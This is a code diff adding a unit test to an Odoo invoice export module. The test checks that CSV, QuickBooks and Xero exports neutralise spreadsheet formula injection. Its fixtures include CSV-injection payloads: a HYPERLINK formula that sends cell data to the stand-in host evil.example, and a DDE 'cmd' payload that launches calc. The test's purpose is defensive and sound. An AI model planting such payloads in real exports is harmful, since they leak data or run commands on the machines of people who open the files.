@@ -293,6 +293,47 @@ class TestExport(AtlasTestCommon):
             self.assertEqual((row["taxes"], row["account_code"]), ("GST on Income 15%", self.revenue.code))
             self.assertEqual(row["status"], "Exported")
 
+    def test_no_cell_starts_a_formula(self):
+        # A customer, a line and a reference whose text a spreadsheet would run as a formula
+        # (CSV injection): each comes out with a leading apostrophe, in every CSV format; the
+        # amounts, a negative one included, stay numbers.
+        self.company_data["company"].country_id = self.env.ref("base.nz")
+        starts = ["=", "+", "-", "@", "\t", "\r"]
+        invoices = self.env["account.move"]
+        for start in starts:
+            customer = self.customer.copy({"name": f'{start}HYPERLINK("http://evil.example/?x="&A1,"Click")'})
+            invoice = self._invoice(partner_id=customer.id, ref=f"{start}1+1")
+            invoice.invoice_line_ids[0].name = f"{start}SUM(1+1)*cmd|' /C calc'!A0"
+            invoice.invoice_line_ids[1].write({"name": "Loyalty credit", "price_unit": -150.0, "tax_ids": []})
+            invoice.action_atlas_mark_sent()
+            invoices |= invoice
+        columns = {
+            "csv": ("customer", "reference", "description", "line_subtotal"),
+            "quickbooks": ("*Customer", "Memo", "ItemDescription", "*ItemAmount"),
+            "xero": ("*ContactName", "Reference", "*Description", "*UnitAmount"),
+        }
+        for export_format, (customer_column, reference_column, description_column, amount_column) in columns.items():
+            with self.subTest(export_format=export_format):
+                _result, content = self._export(invoices, export_format)
+                header, *rows = self._csv_rows(content)
+                rows = [dict(zip(header, row, strict=True)) for row in rows]
+                self.assertEqual(len(rows), 2 * len(starts))
+                for row in rows:
+                    for column, value in row.items():
+                        if value[:1] in starts:
+                            self.assertRegex(value, r"^-?[0-9]+\.[0-9]+$", f"{column} starts a formula")
+                pairs = zip(rows[::2], rows[1::2], strict=True)
+                for invoice, (first, second) in zip(invoices.sorted("name"), pairs, strict=True):
+                    # Odoo trims a name and a reference of their leading tab or line end; what
+                    # is kept of them is neutralised.
+                    for row in (first, second):
+                        self.assertEqual(row[customer_column], "'" + invoice.commercial_partner_id.name)
+                        if invoice.ref:
+                            self.assertEqual(row[reference_column], "'" + invoice.ref)
+                    self.assertEqual(first[description_column], "'" + self._lines(invoice)[0].name)
+                    self.assertEqual(second[description_column], "Loyalty credit")
+                    self.assertEqual(second[amount_column], "-150.00")
+
     def test_several_invoices_in_number_order(self):
         first, second = self._sent_invoice(), self._sent_invoice()
         _result, content = self._export(second | first, "xero")
